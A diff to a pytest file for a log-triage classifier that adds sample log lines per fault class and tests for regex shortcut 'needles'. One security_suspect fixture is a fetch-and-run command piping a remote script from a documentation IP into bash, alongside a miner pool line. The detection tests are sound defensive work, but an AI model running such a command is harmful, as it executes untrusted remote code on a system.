@@ -7,7 +7,7 @@ from typing import Any
 
 import pytest
 
-from bridge.triage import phrases
+from bridge.triage import phrase_table, phrases
 from tests.unit.triage.builders import lines
 
 SAID = [
@@ -43,6 +43,30 @@ SAID = [
     ("data_recovery", "INFO [alembic.runtime.migration] Running upgrade 1a -> 2b, add orders"),
     ("data_recovery", 'msg="Replaying WAL, this may take a while"'),
     ("security_suspect", "XMRig/6.21 gcc/13"),
+    ("disk_full", "write: No space available on volume"),
+    ("disk_full", "kernel: EXT4-fs error (device sda1): ext4_find_entry"),
+    ("disk_full", "Fehler: Auf dem Gerät ist kein Speicherplatz mehr verfügbar"),
+    ("certificate", "tls: failed to verify certificate: x509: certificate signed by unknown authority"),
+    ("certificate", "the client cert for payments expired yesterday"),
+    ("config_error", "open /data/state.db: permission denied"),
+    ("config_error", "License key has expired, contact sales"),
+    ("config_error", "Error: Cannot find module '/app/dist/server.js'"),
+    ("config_error", "parse error in /etc/app/config.yaml line 3"),
+    ("config_error", "curl: (22) The requested URL returned error: 404"),
+    ("dependency_down", "could not connect to server at db.internal"),
+    ("dependency_down", "dial tcp 10.0.0.5:5432: i/o timeout"),
+    ("dependency_down", "wget: bad address 'db:5432'"),
+    ("dependency_down", "FATAL: sorry, too many clients already"),
+    ("dependency_down", '{"status":"fail","redis":"unreachable"}'),
+    ("rate_limit", "we are being rate limited by the provider"),
+    ("rate_limit", "daily limit reached for this key"),
+    ("data_recovery", "Replaying journal: 4 of 9 segments"),
+    ("data_recovery", "Running 12 pending migrations"),
+    ("data_recovery", "Upgrading schema from 41 to 44, do not interrupt"),
+    ("data_recovery", "starting full backup to s3"),
+    ("data_damage", "sqlite3.DatabaseError: database disk image is malformed"),
+    ("data_damage", "PANIC: could not locate a valid checkpoint record"),
+    ("security_suspect", "sh -c curl -s http://203.0.113.9/x.sh | bash"),
     ("security_suspect", "use pool stratum+tcp://pool.example:3333"),
 ]  # fmt: skip
 
@@ -62,6 +86,21 @@ NOT_SAID = [
     "Authentication failed for customer bob",
     "worker exited",
     "",
+    "Running migrations:",
+    "  No migrations to apply.",
+    "migration complete: running 3 migrations took 2 s, recovery is complete",
+    "certificate expires in 89 days",
+    "rate limit: 100 requests a second configured",
+    "accept4: too many open files",
+    "HikariPool-1 - Connection is not available, request timed out after 30000ms.",
+    "psycopg2.OperationalError: server closed the connection unexpectedly",
+    "KeyError: 'currency'",
+    "java.lang.OutOfMemoryError: unable to create native thread",
+    "could not connect to server at localhost:5432",
+    "user bob: permission denied for resource orders",
+    "disk usage 81 %",
+    "backup finished in 12 s",
+    "upgrade your plan to see more",
 ]
 
 
@@ -111,14 +150,14 @@ def test_a_long_line_is_read_at_both_ends() -> None:
 
 def test_an_operator_adds_phrases_as_regular_expressions() -> None:
     """Case never matters; a new class is one more row of the table."""
-    added = {"disk_full": ["quota +hit"], "licence": ["Licen[cs]e .*expired"]}
+    added = {"disk_full": ["quota +hit"], "parking": ["Parking .*expired"]}
     table = phrases.extended(phrases.CLASSES, added)
     seen = phrases.sightings(
-        lines("the QUOTA  hit us", "license has EXPIRED", "quota reached"), classes=table
+        lines("the QUOTA  hit us", "parking has EXPIRED", "quota reached"), classes=table
     )
     assert [(sighting.line_id, sighting.kind) for sighting in seen] == [
         ("L1", "disk_full"),
-        ("L2", "licence"),
+        ("L2", "parking"),
     ]
     assert len(table) == len(phrases.CLASSES) + 1
 
@@ -155,6 +194,59 @@ def test_the_bound_would_notice(source: str) -> None:
 def test_patterns_are_written_in_lower_case(pattern: re.Pattern[str]) -> None:
     """They meet lower-cased text; an upper-case letter would never match."""
     assert not re.search(r"[A-Z]", pattern.pattern)
+
+
+TABLE = [pattern for entry in phrases.CLASSES for pattern in entry.patterns]
+
+
+@pytest.mark.parametrize("pattern", TABLE, ids=lambda pattern: pattern.pattern[:40])
+def test_no_pattern_matches_without_its_needle(pattern: re.Pattern[str]) -> None:
+    """The needle is a shortcut: a line that has none of it is not searched, so it must be in whatever matches."""
+    needle = phrase_table.needle(pattern)
+    assert not needle or any(needle in run for run in runs(_parser.parse(pattern.pattern)))
+
+
+def test_nearly_every_pattern_has_a_needle() -> None:
+    assert sum(len(phrase_table.needle(pattern)) >= 4 for pattern in TABLE) > 0.9 * len(TABLE)
+
+
+@pytest.mark.parametrize(
+    ("source", "needle"),
+    [
+        ("no space left", "no space left"),
+        (r"colou?r of it", "r of it"),
+        (r"(?:a|b) disk", " disk"),
+        (r"one|two", ""),
+        (r"x[a-z|]yes", "yes"),
+        (r"a\.b\bcd", "a.b"),
+        (r"ab{2,3}cde", "cde"),
+        (r"Licen[cs]e .*Expired", "expired"),
+        (r"(a(b)c)?defg", "defg"),
+        (r"ab+cd", "ab"),
+        (r"[]x]end", "end"),
+    ],
+)
+def test_needles(source: str, needle: str) -> None:
+    assert phrase_table.needle(re.compile(source)) == needle
+
+
+def test_a_pattern_that_may_be_spaced_out_has_no_needle() -> None:
+    assert phrase_table.needle(re.compile("(?x) a b c")) == ""
+
+
+def runs(parsed: Any) -> list[str]:
+    """The literal runs that every match holds, as the regular expression's own parser sees them."""
+    found, run = [], ""
+    for op, value in parsed:
+        if op is c.LITERAL:
+            run += chr(value)
+            continue
+        if op is c.MAX_REPEAT and value[0] >= 1:
+            inner = runs(value[2])
+            run += inner[0] if len(inner) == 1 and len(value[2]) == 1 else ""
+        found.append(run)
+        run = ""
+    return [one for one in (*found, run) if one]
 
 
 def tries(parsed: Any) -> float:
